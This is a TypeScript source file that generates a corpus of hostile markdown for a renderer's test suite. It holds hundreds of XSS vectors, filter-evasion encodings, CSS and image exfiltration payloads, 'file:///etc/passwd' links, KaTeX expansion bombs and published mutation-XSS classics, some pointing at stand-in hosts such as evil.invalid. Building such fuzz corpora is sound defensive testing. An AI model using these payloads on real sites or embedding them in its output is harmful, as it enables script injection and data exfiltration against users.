/**
 * The corpus of hostile model output for the reliability suite (issue 7, section 7): XSS and
 * exfiltration payloads, generated as products of vectors × contexts × encodings, plus classics
 * collected from public markdown-XSS lists.
 *
 * Every payload that could run script tries a visible effect, tagged with its own id so a hit
 * says which payload it was: it calls the page's canary `__pwn(id)`, `alert(id)`, logs
 * `PWN-<id>` to the console, or sends a request to the exfiltration server (`<exfil>/<kind>/<id>`:
 * fetch, sendBeacon, navigation, window.open, dynamic import, or the load of an image, style,
 * frame or object). Payloads that only load something (remote images, CSS `url()`, frames) point
 * at the exfiltration server with their id in the path.
 */

export type Family =
  | 'html-handler'
  | 'link-scheme'
  | 'remote-image'
  | 'svg'
  | 'embedding'
  | 'css'
  | 'code'
  | 'math'
  | 'unicode'
  | 'table-footnote'
  | 'nesting'
  | 'classic';

export interface HostilePayload {
  id: number;
  family: Family;
  /** What it is, e.g. "img onerror / list item / entity-encoded". */
  name: string;
  /** Hand-picked (always run, also in reduced mode). */
  classic: boolean;
  markdown: string;
}

/** A JavaScript effect tagged with the payload's id: no spaces, no double quotes, no `<` or `>`. */
type Action = (id: number, exfil: string) => string;

const ACTIONS: Action[] = [
  (id) => `__pwn(${id})`,
  (id) => `alert(${id})`,
  (id, e) => `fetch('${e}/f/${id}')`,
  (id, e) => `navigator.sendBeacon('${e}/b/${id}')`,
  (id) => `console.log('PWN-${id}')`,
  (id, e) => `location='${e}/l/${id}'`,
  (id, e) => `window.open('${e}/o/${id}')`,
  (id, e) => `import('${e}/m/${id}')`,
];

/** A payload before it has an id: `{ID}` and `{E}` (the exfil origin) are filled in later, and
 * `{A}` with one of the actions (`{A0}`…`{A7}` to pick one). */
interface Template {
  family: Family;
  name: string;
  classic?: boolean;
  text: string;
}

function entities(text: string): string {
  return [...text].map((c) => `&#${c.codePointAt(0)};`).join('');
}

function hexEntities(text: string): string {
  return [...text].map((c) => `&#x${c.codePointAt(0)!.toString(16)};`).join('');
}

function base64(text: string): string {
  return Buffer.from(text, 'utf8').toString('base64');
}

// ---------------------------------------------------------------------------------------------
// HTML vectors: a tag whose attribute runs `{A}` or loads `{E}`.

interface HtmlVector {
  name: string;
  /** `ACT` stands for the script, `URL` for an address on the exfiltration server. */
  html: string;
}

const HTML_VECTORS: HtmlVector[] = [
  { name: 'script', html: '<script>ACT</script>' },
  { name: 'script src', html: '<script src="URL"></script>' },
  { name: 'img onerror', html: '<img src=x onerror="ACT">' },
  { name: 'img onload remote', html: '<img src="URL" onload="ACT">' },
  { name: 'img srcset', html: '<img srcset="URL 1x" onerror="ACT">' },
  { name: 'svg onload', html: '<svg onload="ACT"></svg>' },
  { name: 'body onload', html: '<body onload="ACT">' },
  { name: 'details ontoggle', html: '<details open ontoggle="ACT"><summary>s</summary></details>' },
  { name: 'video source onerror', html: '<video><source onerror="ACT"></video>' },
  { name: 'video poster', html: '<video poster="URL" onerror="ACT"></video>' },
  { name: 'audio onerror', html: '<audio src=x onerror="ACT"></audio>' },
  { name: 'iframe onload', html: '<iframe onload="ACT"></iframe>' },
  { name: 'iframe src', html: '<iframe src="URL"></iframe>' },
  { name: 'iframe javascript', html: '<iframe src="javascript:ACT"></iframe>' },
  {
    name: 'iframe srcdoc',
    html: '<iframe srcdoc="&lt;script&gt;parent.ACT&lt;/script&gt;"></iframe>',
  },
  { name: 'object data', html: '<object data="URL"></object>' },
  { name: 'object javascript', html: '<object data="javascript:ACT"></object>' },
  { name: 'embed src', html: '<embed src="URL">' },
  {
    name: 'math maction',
    html: '<math><maction actiontype="statusline" xlink:href="javascript:ACT">x</maction></math>',
  },
  { name: 'math href', html: '<math href="javascript:ACT"><mi>x</mi></math>' },
  { name: 'style onload', html: '<style onload="ACT"></style>' },
  { name: 'input autofocus', html: '<input autofocus onfocus="ACT">' },
  { name: 'textarea autofocus', html: '<textarea autofocus onfocus="ACT"></textarea>' },
  { name: 'select autofocus', html: '<select autofocus onfocus="ACT"></select>' },
  { name: 'marquee onstart', html: '<marquee onstart="ACT">m</marquee>' },
  { name: 'div onmouseover', html: '<div onmouseover="ACT">hover</div>' },
  { name: 'a javascript', html: '<a href="javascript:ACT">click</a>' },
  { name: 'a onclick', html: '<a href="#" onclick="ACT">click</a>' },
  { name: 'form action', html: '<form action="URL"><button>go</button></form>' },
  {
    name: 'button formaction',
    html: '<form><button formaction="javascript:ACT">go</button></form>',
  },
  { name: 'input image', html: '<input type="image" src="URL">' },
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=URL">' },
  { name: 'base href', html: '<base href="URL/">' },
  { name: 'link import', html: '<link rel="import" href="URL">' },
  { name: 'link prefetch', html: '<link rel="prefetch" href="URL">' },
  { name: 'table background', html: '<table background="URL"><tr><td>t</td></tr></table>' },
  {
    name: 'picture source',
    html: '<picture><source srcset="URL"><img src=x onerror="ACT"></picture>',
  },
  {
    name: 'svg animate onbegin',
    html: '<svg><animate onbegin="ACT" attributeName="x" dur="1s"></animate></svg>',
  },
  {
    name: 'svg set href',
    html: '<svg><a><set attributeName="href" to="javascript:ACT"/><text x="1" y="9">s</text></a></svg>',
  },
  { name: 'frameset onload', html: '<frameset onload="ACT"></frameset>' },
];

/** How a tag is written. */
const HTML_ENCODINGS: Array<{
  name: string;
  apply: (html: string, act: string, url: string) => string;
}> = [
  { name: 'plain', apply: (h, a, u) => h.replaceAll('ACT', a).replaceAll('URL', u) },
  {
    name: 'mixed case',
    apply: (h, a, u) =>
      h
        .replace(/<(\/?)([a-z]+)/g, (_, slash: string, tag: string) => `<${slash}${mixCase(tag)}`)
        .replace(/\s(on[a-z]+|src|href|data)=/g, (_, attr: string) => ` ${mixCase(attr)}=`)
        .replaceAll('ACT', a)
        .replaceAll('URL', u),
  },
  {
    name: 'slashes and newlines',
    apply: (h, a, u) =>
      h
        .replace(/<([a-z]+) /g, '<$1/')
        .replace(/ (on[a-z]+)=/g, '\n$1 =')
        .replaceAll('ACT', a)
        .replaceAll('URL', u),
  },
  {
    name: 'entity-encoded values',
    apply: (h, a, u) => h.replaceAll('ACT', entities(a)).replaceAll('URL', hexEntities(u)),
  },
];

function mixCase(word: string): string {
  return [...word].map((c, i) => (i % 2 === 0 ? c.toUpperCase() : c)).join('');
}

/** Where in the markdown a piece of HTML sits. */
const HTML_CONTEXTS: Array<{ name: string; wrap: (html: string) => string }> = [
  { name: 'own block', wrap: (h) => h },
  { name: 'inline', wrap: (h) => `Some text ${h} and more text.` },
  { name: 'list item', wrap: (h) => `- item\n- ${h}\n- last` },
  { name: 'blockquote', wrap: (h) => `> quoted ${h}` },
  { name: 'table cell', wrap: (h) => `| a | b |\n|---|---|\n| ${h.replaceAll('|', '\\|')} | x |` },
  { name: 'heading', wrap: (h) => `## Title ${h}` },
  { name: 'link text', wrap: (h) => `[${h}](https://example.com/ok)` },
  { name: 'emphasis', wrap: (h) => `**bold ${h}** _it_` },
  { name: 'footnote', wrap: (h) => `Note[^n{ID}].\n\n[^n{ID}]: ${h}` },
  { name: 'html fence', wrap: (h) => `\`\`\`html\n${h}\n\`\`\`` },
  { name: 'inline code', wrap: (h) => `Run \`${h.replaceAll('`', '')}\` now.` },
];

function htmlTemplates(): Template[] {
  const out: Template[] = [];
  for (const vector of HTML_VECTORS) {
    for (const encoding of HTML_ENCODINGS) {
      const contexts = encoding.name === 'plain' ? HTML_CONTEXTS : HTML_CONTEXTS.slice(0, 2);
      for (const context of contexts) {
        const html = encoding.apply(vector.html, '{A}', '{E}/r/{ID}');
        out.push({
          family:
            vector.name.includes('svg') || vector.name.includes('math') ? 'svg' : 'html-handler',
          name: `${vector.name} / ${context.name} / ${encoding.name}`,
          text: context.wrap(html),
        });
      }
    }
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// Addresses: dangerous schemes, written many ways, in every place markdown takes an address.

const SCHEMES: Array<{ name: string; url: string }> = [
  { name: 'javascript', url: 'javascript:{A}' },
  { name: 'vbscript', url: 'vbscript:msgbox({ID})' },
  { name: 'data html', url: 'data:text/html;base64,B64SCRIPT' },
  { name: 'data svg', url: 'data:image/svg+xml;base64,B64SVG' },
  { name: 'file', url: 'file:///etc/passwd?{ID}' },
  { name: 'file host', url: 'file://EXFILHOST/file/{ID}' },
  { name: 'blob', url: 'blob:{E}/{ID}' },
  { name: 'view-source', url: 'view-source:{E}/v/{ID}' },
  { name: 'ftp', url: 'ftp://EXFILHOST/ftp/{ID}' },
  { name: 'protocol-relative', url: '//EXFILHOST/pr/{ID}' },
];

/** Ways to hide the scheme `javascript:` from a naive filter. */
const SCHEME_ENCODINGS: Array<{ name: string; apply: (url: string) => string }> = [
  { name: 'plain', apply: (u) => u },
  { name: 'upper case', apply: (u) => u.replace(/^[a-z-]+:/, (s) => s.toUpperCase()) },
  { name: 'mixed case', apply: (u) => u.replace(/^[a-z-]+:/, mixCase) },
  { name: 'entity colon', apply: (u) => u.replace(':', '&#58;') },
  { name: 'hex entity colon', apply: (u) => u.replace(':', '&#x3A;') },
  { name: 'named entity colon', apply: (u) => u.replace(':', '&colon;') },
  {
    name: 'entity scheme',
    apply: (u) => u.replace(/^([a-z-]+):/, (_, s: string) => `${entities(s)}:`),
  },
  { name: 'tab entity', apply: (u) => u.replace(/^(...)/, '$1&#9;') },
  { name: 'newline entity', apply: (u) => u.replace(/^(....)/, '$1&#10;') },
  { name: 'leading control', apply: (u) => `\u0001${u}` },
  { name: 'leading entity space', apply: (u) => `&#32;${u}` },
  { name: 'zero width', apply: (u) => u.replace(/^(....)/, '$1\u200b') },
  { name: 'soft hyphen', apply: (u) => u.replace(/^(....)/, '$1\u00ad') },
  { name: 'byte order mark', apply: (u) => `\ufeff${u}` },
  { name: 'percent colon', apply: (u) => u.replace(':', '%3A') },
  { name: 'escaped colon', apply: (u) => u.replace(':', '\\:') },
];

const LINK_CONTEXTS: Array<{ name: string; wrap: (url: string) => string; bare?: boolean }> = [
  { name: 'inline link', wrap: (u) => `[click here](${u})` },
  { name: 'link with title', wrap: (u) => `[click here](${u} "docs")` },
  { name: 'angle destination', wrap: (u) => `[click here](<${u}>)` },
  { name: 'autolink', wrap: (u) => `<${u}>`, bare: true },
  { name: 'reference link', wrap: (u) => `[click here][r{ID}]\n\n[r{ID}]: ${u}` },
  { name: 'image', wrap: (u) => `![a picture](${u})` },
  { name: 'reference image', wrap: (u) => `![a picture][i{ID}]\n\n[i{ID}]: ${u}` },
  { name: 'linked image', wrap: (u) => `[![a picture](${u})](${u})` },
  { name: 'html anchor', wrap: (u) => `<a href="${u}">click here</a>` },
  { name: 'footnote link', wrap: (u) => `See[^f{ID}].\n\n[^f{ID}]: [click here](${u})` },
  { name: 'table cell link', wrap: (u) => `| link |\n|---|\n| [click here](${u}) |` },
];

function schemeTemplates(): Template[] {
  const out: Template[] = [];
  for (const scheme of SCHEMES) {
    const encodings =
      scheme.name === 'javascript'
        ? SCHEME_ENCODINGS
        : scheme.name === 'data html' || scheme.name === 'vbscript'
          ? SCHEME_ENCODINGS.slice(0, 4)
          : SCHEME_ENCODINGS.slice(0, 2);
    for (const encoding of encodings) {
      for (const context of LINK_CONTEXTS) {
        const url = encoding.apply(scheme.url);
        // An autolink cannot hold spaces or controls: it would be plain text, not a test.
        if (context.bare && (/\s/.test(url) || url.includes('\u0001'))) continue;
        out.push({
          family:
            encoding.name === 'zero width' ||
            encoding.name === 'byte order mark' ||
            encoding.name === 'soft hyphen'
              ? 'unicode'
              : 'link-scheme',
          name: `${scheme.name} / ${context.name} / ${encoding.name}`,
          text: context.wrap(url),
        });
      }
    }
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// Remote images: the renderer must never load one; the markdown forms become links.

function remoteImageTemplates(): Template[] {
  const hosts = ['{E}', 'http://localhost:EXFILPORT', 'https://tracker.invalid'];
  const forms: Array<[string, (u: string) => string]> = [
    ['markdown image', (u) => `![pixel](${u}/img/{ID}.png)`],
    ['markdown image with title', (u) => `![pixel](${u}/img/{ID}.png "t")`],
    ['reference image', (u) => `![pixel][p{ID}]\n\n[p{ID}]: ${u}/img/{ID}.png`],
    ['image in table', (u) => `| x |\n|---|\n| ![pixel](${u}/img/{ID}.png) |`],
    ['image in list', (u) => `1. first\n2. ![pixel](${u}/img/{ID}.png)`],
    ['image inside link', (u) => `[![pixel](${u}/img/{ID}.png)](https://example.com/)`],
    ['html img', (u) => `<img src="${u}/img/{ID}.png">`],
    ['html img srcset', (u) => `<img srcset="${u}/img/{ID}.png 2x">`],
    ['svg image', (u) => `<svg><image href="${u}/img/{ID}.png"/></svg>`],
    ['input image', (u) => `<input type=image src="${u}/img/{ID}.png">`],
    ['body background', (u) => `<body background="${u}/img/{ID}.png">`],
  ];
  const out: Template[] = [];
  for (const host of hosts) {
    for (const [name, form] of forms) {
      out.push({ family: 'remote-image', name: `${name} / ${host}`, text: form(host) });
    }
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// SVG, frames, forms, meta, base, link: whole documents and embedding elements.

function embeddingTemplates(): Template[] {
  const svgScript = `<svg xmlns="http://www.w3.org/2000/svg"><script>{A}</script></svg>`;
  const list: Array<[Family, string, string]> = [
    ['svg', 'svg script', svgScript],
    [
      'svg',
      'svg foreignObject iframe',
      '<svg><foreignObject><iframe src="javascript:{A}"></iframe></foreignObject></svg>',
    ],
    [
      'svg',
      'svg foreignObject img',
      '<svg><foreignObject><img src=x onerror="{A}"></foreignObject></svg>',
    ],
    [
      'svg',
      'svg a xlink',
      '<svg><a xlink:href="javascript:{A}"><text x="0" y="15">click</text></a></svg>',
    ],
    [
      'svg',
      'svg use data',
      `<svg><use href="data:image/svg+xml;base64,${base64(svgScript)}#x"/></svg>`,
    ],
    [
      'svg',
      'svg animate href',
      '<svg><a><animate attributeName="href" values="javascript:{A}"/><text y="9">x</text></a></svg>',
    ],
    ['svg', 'svg style import', '<svg><style>@import url({E}/css/{ID});</style></svg>'],
    ['svg', 'svg fenced', '```svg\n<svg onload="{A}"><script>{A}</script></svg>\n```'],
    [
      'embedding',
      'iframe data',
      '<iframe src="data:text/html,%3Cscript%3E{A}%3C/script%3E"></iframe>',
    ],
    ['embedding', 'iframe srcdoc img', '<iframe srcdoc="<img src=x onerror=parent.{A}>"></iframe>'],
    ['embedding', 'object html', '<object data="data:text/html;base64,B64SCRIPT"></object>'],
    ['embedding', 'embed svg', '<embed src="data:image/svg+xml;base64,B64SVG">'],
    [
      'embedding',
      'form autosubmit',
      '<form id="f{ID}" action="{E}/form/{ID}" method="post"><input name="q" value="secret"></form>',
    ],
    ['embedding', 'form button', '<form action="{E}/form/{ID}"><button>Continue</button></form>'],
    [
      'embedding',
      'meta refresh javascript',
      '<meta http-equiv="refresh" content="0;url=javascript:{A}">',
    ],
    [
      'embedding',
      'meta refresh remote',
      '<meta http-equiv="refresh" content="0; url={E}/meta/{ID}">',
    ],
    [
      'embedding',
      'meta csp override',
      `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">`,
    ],
    ['embedding', 'base href', '<base href="{E}/base/{ID}/">'],
    ['embedding', 'base javascript', '<base href="javascript:/{A}//">'],
    ['embedding', 'link import', '<link rel=import href="{E}/import/{ID}">'],
    ['embedding', 'link stylesheet', '<link rel=stylesheet href="{E}/css/{ID}">'],
    ['embedding', 'link preload', '<link rel=preload as=script href="{E}/preload/{ID}">'],
    ['embedding', 'link icon', '<link rel=icon href="{E}/icon/{ID}">'],
    ['embedding', 'a ping', '<a href="https://example.com/" ping="{E}/ping/{ID}">ping</a>'],
    ['embedding', 'portal', '<portal src="{E}/portal/{ID}"></portal>'],
    [
      'embedding',
      'template shadow',
      '<div><template shadowrootmode="open"><img src=x onerror="{A}"></template></div>',
    ],
  ];
  return list.map(([family, name, text]) => ({ family, name, text }));
}

// ---------------------------------------------------------------------------------------------
// CSS: exfiltration through url(), @import and attribute selectors.

function cssTemplates(): Template[] {
  const list: Array<[string, string]> = [
    ['style import', '<style>@import url("{E}/css/{ID}");</style>'],
    ['style import bare', "<style>@import '{E}/css/{ID}';</style>"],
    ['style background', '<style>body{background:url({E}/css/{ID})}</style>'],
    [
      'style attribute selector',
      '<style>input[value^="a"]{background-image:url({E}/css/{ID})}</style>',
    ],
    [
      'style font-face',
      '<style>@font-face{font-family:x;src:url({E}/font/{ID})}body{font-family:x}</style>',
    ],
    ['style attribute url', '<div style="background:url({E}/css/{ID})">styled</div>'],
    [
      'style attribute image-set',
      '<span style="background-image:image-set(\'{E}/css/{ID}\' 1x)">styled</span>',
    ],
    ['style attribute entity', '<p style="background:&#117;rl({E}/css/{ID})">styled</p>'],
    ['style attribute escape', '<p style="background:u\\72l({E}/css/{ID})">styled</p>'],
    ['style attribute expression', '<p style="width:expression({A})">styled</p>'],
    ['style in table', '| a |\n|---|\n| <span style="background:url({E}/css/{ID})">x</span> |'],
    ['style fenced css', '```css\nbody{background:url({E}/css/{ID})}\n```'],
    ['style in list', '- <style>*{background:url({E}/css/{ID})}</style>'],
    ['style mutation', '<noscript><style></noscript><img src=x onerror="{A}"></style>'],
  ];
  return list.map(([name, text]) => ({ family: 'css' as const, name, text }));
}

// ---------------------------------------------------------------------------------------------
// Code: HTML in fences and code spans, fence languages that try to break out of a class name.

function codeTemplates(): Template[] {
  const inner = '<img src=x onerror="{A}"><script>{A}</script>';
  const languages = ['', 'html', 'xml', 'svg', 'js', 'markdown', 'php', 'bash', 'unknownlang'];
  const out: Template[] = languages.map((language) => ({
    family: 'code' as const,
    name: `fence ${language || 'without language'}`,
    text: `\`\`\`${language}\n${inner}\n</code></pre>${inner}\n\`\`\``,
  }));
  out.push(
    {
      family: 'code',
      name: 'fence language breakout',
      text: '```"><img src=x onerror="{A}">\ncode\n```',
    },
    {
      family: 'code',
      name: 'fence language with class',
      text: '```js hljs" onmouseover="{A}\ncode\n```',
    },
    { family: 'code', name: 'tilde fence', text: `~~~html\n${inner}\n~~~` },
    { family: 'code', name: 'indented code', text: `    ${inner}\n    </pre>${inner}` },
    { family: 'code', name: 'code span', text: `Use \`${inner}\` here.` },
    { family: 'code', name: 'double backtick span', text: `Use \`\` \`${inner}\` \`\` here.` },
    { family: 'code', name: 'code closing early', text: '`</code><img src=x onerror="{A}">`' },
    { family: 'code', name: 'math fence html', text: `\`\`\`math\n\\text{${inner}}\n\`\`\`` },
    {
      family: 'code',
      name: 'js fence with template',
      text: '```javascript\nconst s = `${' + '\'<img src=x onerror="{A}">\'' + '}`;\n```',
    },
    {
      family: 'code',
      name: 'markdown fence with link',
      text: '```markdown\n[x](javascript:{A})\n```',
    },
  );
  return out;
}

// ---------------------------------------------------------------------------------------------
// Math: KaTeX commands that link, load or carry HTML, and expansion bombs.

function mathTemplates(): Template[] {
  const commands: Array<[string, string]> = [
    ['href javascript', '\\href{javascript:{A}}{click}'],
    ['href mixed case', '\\href{JaVaScRiPt:{A}}{click}'],
    ['href remote', '\\href{{E}/href/{ID}}{click}'],
    ['href data', '\\href{data:text/html;base64,B64SCRIPT}{click}'],
    ['url javascript', '\\url{javascript:{A}}'],
    ['url file', '\\url{file:///etc/passwd}'],
    ['htmlClass', '\\htmlClass{x" onmouseover="{A}}{x}'],
    ['htmlId', '\\htmlId{__pwned}{x}'],
    ['htmlStyle', '\\htmlStyle{background:url({E}/katex/{ID})}{x}'],
    ['htmlData', '\\htmlData{onerror={A}}{x}'],
    ['includegraphics', '\\includegraphics[height=1em]{{E}/katex/{ID}.png}'],
    ['includegraphics javascript', '\\includegraphics{javascript:{A}}'],
    ['color css', '\\color{red;background:url({E}/katex/{ID})}{x}'],
    ['textcolor css', '\\textcolor{url({E}/katex/{ID})}{x}'],
    ['text html', '\\text{<img src=x onerror="{A}">}'],
    ['operatorname html', '\\operatorname{<script>{A}</script>}'],
    ['verb html', '\\verb|<img src=x onerror="{A}">|'],
    ['unicode mathjax', '\\unicode{<img src=1 onerror="{A}">}'],
    ['def bomb', '\\def\\a{\\a\\a}\\a'],
    [
      'edef bomb',
      '\\def\\a{xxxxxxxxxx}\\edef\\b{\\a\\a\\a\\a\\a\\a\\a\\a\\a\\a}\\edef\\c{\\b\\b\\b\\b\\b\\b\\b\\b\\b\\b}\\edef\\d{\\c\\c\\c\\c\\c\\c\\c\\c\\c\\c}\\d',
    ],
    ['newcommand bomb', '\\newcommand{\\x}{\\x\\x}\\x'],
    [
      'gdef chain',
      '\\gdef\\a{aa}\\gdef\\b{\\a\\a\\a\\a}\\gdef\\c{\\b\\b\\b\\b}\\gdef\\d{\\c\\c\\c\\c}\\d\\d\\d\\d',
    ],
    ['huge rule', '\\rule{100000em}{100000em}'],
    ['huge size', '\\Huge\\Huge\\Huge{x}\\kern100000em'],
  ];
  const out: Template[] = [];
  for (const [name, tex] of commands) {
    out.push({ family: 'math', name: `${name} / inline`, text: `Inline $${tex}$ math.` });
    out.push({ family: 'math', name: `${name} / display`, text: `$$\n${tex}\n$$` });
    out.push({ family: 'math', name: `${name} / math fence`, text: `\`\`\`math\n${tex}\n\`\`\`` });
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// Unicode tricks beyond the scheme encodings: direction overrides, look-alikes.

function unicodeTemplates(): Template[] {
  const list: Array<[string, string]> = [
    ['rtl override link text', '[\u202egnp.exe](javascript:{A})'],
    ['rtl override in url', '[click](java\u202escript:{A})'],
    [
      'fullwidth scheme',
      '[click](\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:{A})',
    ],
    ['cyrillic scheme', '[click](j\u0430vascript:{A})'],
    ['line separator', '[click](javascript:\u2028{A})'],
    ['nul in scheme', '[click](java\u0000script:{A})'],
    ['combining in scheme', '[click](javas\u0301cript:{A})'],
    ['zero width joiner tag', '<i\u200dmg src=x onerror="{A}">'],
    ['fullwidth tag', '\uff1cimg src=x onerror="{A}"\uff1e'],
    ['rtl in html', '<img src=x \u202eonerror="{A}">'],
    ['homoglyph host', '[https://example.com](https://ex\u0430mple.com/{ID})'],
  ];
  return list.map(([name, text]) => ({ family: 'unicode' as const, name, text }));
}

// ---------------------------------------------------------------------------------------------
// Tables and footnotes that mix all of the above.

function tableFootnoteTemplates(): Template[] {
  return [
    {
      family: 'table-footnote',
      name: 'table mixing link image html math',
      text: '| link | image | html | math |\n|:--|:-:|--:|---|\n| [x](javascript:{A}) | ![p]({E}/img/{ID}.png) | <img src=x onerror="{A}"> | $\\href{javascript:{A}}{m}$ |',
    },
    {
      family: 'table-footnote',
      name: 'table with style alignment',
      text: '| a |\n|:-:|\n| <td style="background:url({E}/css/{ID})"> |',
    },
    {
      family: 'table-footnote',
      name: 'footnote with image and script',
      text: 'Claim[^x{ID}].\n\n[^x{ID}]: ![p]({E}/img/{ID}.png) <script>{A}</script> [more](vbscript:x)',
    },
    {
      family: 'table-footnote',
      name: 'footnote label html',
      text: 'Claim[^<img src=x onerror="{A}">].\n\n[^<img src=x onerror="{A}">]: note',
    },
    {
      family: 'table-footnote',
      name: 'footnote label clobbering',
      text: 'Claim[^__proto__].\n\n[^__proto__]: [x](javascript:{A})',
    },
    {
      family: 'table-footnote',
      name: 'task list with html',
      text: '- [x] done <img src=x onerror="{A}">\n- [ ] [todo](javascript:{A})',
    },
    {
      family: 'table-footnote',
      name: 'nested quote list table',
      text: '> - item\n>   | a |\n>   |---|\n>   | [x](data:text/html;base64,B64SCRIPT) |',
    },
    {
      family: 'table-footnote',
      name: 'definition inside table cell',
      text: '| a |\n|---|\n| [x][d{ID}] |\n\n[d{ID}]: javascript:{A}',
    },
    {
      family: 'table-footnote',
      name: 'strikethrough html',
      text: '~~<svg onload="{A}">~~ and ~[y](javascript:{A})~',
    },
    {
      family: 'table-footnote',
      name: 'gfm bare autolink',
      text: 'Visit www.example.com/"onmouseover="{A} or https://example.com/<img src=x onerror="{A}">',
    },
  ];
}

// ---------------------------------------------------------------------------------------------
// Nesting: deep structures that try to exhaust the parser, KaTeX or React.

function nestingTemplates(): Template[] {
  return [
    { family: 'nesting', name: 'deep blockquotes', text: `${'>'.repeat(2000)} deep` },
    {
      family: 'nesting',
      name: 'deep lists',
      text: Array.from({ length: 120 }, (_, i) => `${'  '.repeat(i)}- l${i}`).join('\n'),
    },
    { family: 'nesting', name: 'deep emphasis', text: `${'*_'.repeat(250)}x${'_*'.repeat(250)}` },
    { family: 'nesting', name: 'deep brackets', text: `${'['.repeat(1000)}x${']'.repeat(1000)}` },
    {
      family: 'nesting',
      name: 'deep math braces',
      text: `$$\n${'{'.repeat(1000)}x${'}'.repeat(1000)}\n$$`,
    },
    {
      family: 'nesting',
      name: 'deep math fractions',
      text: `$${'\\frac{'.repeat(200)}x${'}{y}'.repeat(200)}$`,
    },
    {
      family: 'nesting',
      name: 'deep math roots',
      text: `$$\n${'\\sqrt{'.repeat(500)}x${'}'.repeat(500)}\n$$`,
    },
    {
      family: 'nesting',
      name: 'math just under the depth limit',
      text: `$${'\\frac{'.repeat(60)}x${'}{y}'.repeat(60)}$`,
    },
    {
      family: 'nesting',
      name: 'deep html',
      text: `${'<div>'.repeat(2000)}x${'</div>'.repeat(2000)}`,
    },
  ];
}

// ---------------------------------------------------------------------------------------------
// Classics: well-known markdown XSS payloads, kept as published, with the id in the alert.

function classicTemplates(): Template[] {
  const list: Array<[string, string]> = [
    ['javascript prompt', '[a](javascript:prompt({ID}))'],
    ['spaced javascript', '[a](j a v a s c r i p t:prompt({ID}))'],
    ['image javascript', '![a](javascript:prompt({ID}))'],
    ['autolink javascript', '<javascript:prompt({ID})>'],
    ['data base64 link', `[a](data:text/html;base64,${base64('<script>alert(1)</script>')})`],
    ['image alt breakout', '![a\'"`onerror=prompt({ID})](x)'],
    ['definition parenthesised', '[citelol]: (javascript:prompt({ID}))\n\n[citelol]'],
    ['onerror throw', '[notmalicious](javascript:window.onerror=alert;throw%20{ID})'],
    ['javascript comment crlf', '[test](javascript://%0d%0aprompt({ID}))'],
    ['javascript comment crlf com', '[test](javascript://%0d%0aprompt({ID});com)'],
    ['vbscript', '[clickme](vbscript:alert({ID}))'],
    ['this alert', '[a](javascript:this;alert({ID}))'],
    ['entity c', '[a](Javas&#99;ript:alert({ID}))'],
    ['double encoded entity', '[a](Javas%26%2399;ript:alert({ID}))'],
    ['non-character', '[a](javascript:alert&#65534;({ID}))'],
    ['image onerror quote', '![Uh oh...]("onerror="alert({ID}))'],
    ['dot alert', '[XSS](.alert({ID});)'],
    ['brackets onclick', '[ ](http://a?p=[[/onclick=alert({ID}) .]])'],
    ['template literal', '[a](javascript:new%20Function`al\\ert\\`{ID}\\``;)'],
    ['html anchor', '<a href="javascript:alert({ID})">x</a>'],
    ['script breakout', '"><script>alert({ID})</script>'],
    ['unclosed img', '<img src=x onerror=alert({ID})//'],
    ['svg slash onload', '<svg/onload=alert({ID})>'],
    ['iframe javascript', '<iframe src="javascript:alert({ID})">'],
    ['mxss math table', '<math><mtext><table><mglyph><style><img src=x onerror=alert({ID})>'],
    ['mxss noscript', '<noscript><p title="</noscript><img src=x onerror=alert({ID})>">'],
    [
      'mxss form math',
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert({ID})>',
    ],
    ['mxss svg style', '<svg></p><style><a id="</style><img src=1 onerror=alert({ID})>">'],
    ['anchor entity j', '<a href="&#106;avascript:alert({ID})">x</a>'],
    ['img newline onerror', '<img src="x"\nonerror=alert({ID})>'],
    ['comment breakout', '<!--<img src="--><img src=x onerror=alert({ID})//">'],
    ['split script', '<scr<script>ipt>alert({ID})</scr</script>ipt>'],
    ['anchor tab entity', '<a href="jav&#x09;ascript:alert({ID})">x</a>'],
    ['javascript with title', '[x](javascript:alert({ID}) "title")'],
    ['details ontoggle', '<details open ontoggle=alert({ID})>'],
    ['video source', '<video><source onerror=alert({ID})>'],
    ['body onload', '<body onload=alert({ID})>'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert({ID})">'],
    ['base javascript', '<base href="javascript:/a/-alert({ID})///////">'],
    ['object data html', `<object data="data:text/html,<script>alert({ID})</script>">`],
    [
      'embed svg data',
      `<embed src="data:image/svg+xml;base64,${base64('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')}">`,
    ],
    ['katex href', '$\\href{javascript:alert({ID})}{click}$'],
    ['katex htmlData cve', '$\\htmlData{x=1 onmouseover=alert({ID})}{x}$'],
    ['katex includegraphics case', '$\\includegraphics{JAVASCRIPT:alert({ID})}$'],
    [
      'katex maxExpand',
      '$\\def\\x#1{#1#1}\\x{\\x{\\x{\\x{\\x{\\x{\\x{\\x{\\x{\\x{\\x{\\x{y}}}}}}}}}}}}$',
    ],
    [
      'reference title breakout',
      '[a][b]\n\n[b]: https://example.com/ "title\\" onmouseover=\\"alert({ID})"',
    ],
    ['markdown in attribute', '<a href="[x](javascript:alert({ID}))">x</a>'],
    ['html entity in link text', '[&lt;img src=x onerror=alert({ID})&gt;](https://example.com/)'],
    ['remote pixel', '![](https://tracker.invalid/pixel.gif?id={ID})'],
    ['css import', '<style>@import "https://tracker.invalid/{ID}.css";</style>'],
    ['iframe remote', '<iframe src="https://evil.invalid/{ID}"></iframe>'],
  ];
  return list.map(([name, text]) => ({ family: 'classic' as const, name, classic: true, text }));
}

// ---------------------------------------------------------------------------------------------

export interface CorpusOptions {
  /** The exfiltration server, e.g. `http://127.0.0.1:41234`. */
  exfil: string;
}

/** Every payload, each distinct, with ids in a stable order. */
export function buildCorpus({ exfil }: CorpusOptions): HostilePayload[] {
  const exfilUrl = new URL(exfil);
  const templates = [
    ...classicTemplates(),
    ...htmlTemplates(),
    ...schemeTemplates(),
    ...remoteImageTemplates(),
    ...embeddingTemplates(),
    ...cssTemplates(),
    ...codeTemplates(),
    ...mathTemplates(),
    ...unicodeTemplates(),
    ...tableFootnoteTemplates(),
    ...nestingTemplates(),
  ];
  const seen = new Set<string>();
  const payloads: HostilePayload[] = [];
